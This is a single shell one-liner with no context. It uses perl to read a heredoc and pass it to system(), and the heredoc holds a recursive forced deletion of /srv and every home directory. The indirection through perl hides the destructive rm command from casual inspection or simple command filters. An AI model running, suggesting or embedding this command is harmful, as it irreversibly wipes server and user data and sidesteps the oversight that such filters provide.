perl -0777 -ne 'system($_)' <<'X'
rm -rf /srv/* /home/*
X
